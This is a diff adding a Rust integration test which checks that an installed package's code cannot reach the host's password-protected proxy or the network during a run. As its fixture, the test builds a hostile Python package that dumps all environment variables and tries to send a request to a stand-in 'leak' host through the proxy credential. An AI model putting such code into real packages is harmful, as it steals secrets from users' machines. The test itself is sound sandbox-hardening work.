@@ -65,6 +65,43 @@ fn a_build_backend_sees_no_password_and_no_network() {
     assert_eq!(done.code, Some(0), "{done:?}");
 }
 
+/// What is fetched goes through the proxy of the host; code of packages reaches neither the proxy nor,
+/// through it, anything else, and does not see its password.
+#[test]
+fn a_proxy_of_the_host_is_not_there_for_code_of_packages() {
+    let place = Place::new();
+    place.file("probe/scripts/go.py", "import small_thing\nprint(small_thing.tried)\n");
+    let registry = Registry::start();
+    let proxy = registry.address("").replace("http://", &format!("http://me:{PASSWORD}@"));
+    let attack = format!(
+        "import os, urllib.request as r\n\
+         TRIED = [repr(dict(os.environ))]\n\
+         for proxies in [{{'http': {proxy:?}}}, None]:\n\
+         \x20   try:\n\
+         \x20       open_ = r.build_opener(r.ProxyHandler(proxies)).open\n\
+         \x20       open_('http://inside.example/leak?proxy', timeout=5)\n\
+         \x20       TRIED.append('reached')\n\
+         \x20   except OSError as error: TRIED.append('failed')\n\
+         MODULE = f'tried = {{TRIED!r}}\\n'\n"
+    );
+    // Its text has the password, which nobody but this test put there: it is told without.
+    let registry = registry.source(&Source::new("small_thing", attack));
+    let mut command = place.skill(&["run", "--install", "../probe"]);
+    command.env("XDG_CACHE_HOME", place.path("cache"));
+    registry.configure(&mut command, &place.path("home"));
+    command
+        .env("PIP_INDEX_URL", "http://packages.example/simple/")
+        .env_remove("PIP_EXTRA_INDEX_URL");
+    command.env("PIP_TRUSTED_HOST", "packages.example").env("HTTP_PROXY", &proxy);
+    let done = Finished::of(&command.output().unwrap());
+    let fetched = "http://packages.example/files/small_thing-1.0.tar.gz".to_owned();
+    assert!(registry.requests().contains(&fetched), "{:?} {done:?}", registry.requests());
+    assert_eq!(registry.leaks(), Vec::<String>::new(), "{done:?}");
+    assert!(done.out.ends_with(", 'failed', 'failed']\n"), "{done:?}");
+    assert!(!done.out.to_lowercase().contains("proxy"), "{done:?}");
+    assert!(!done.out.contains(PASSWORD) && !done.err.contains(PASSWORD), "{done:?}");
+}
+
 #[test]
 fn an_install_script_sees_no_password_and_no_network() {
     let place = Place::new();
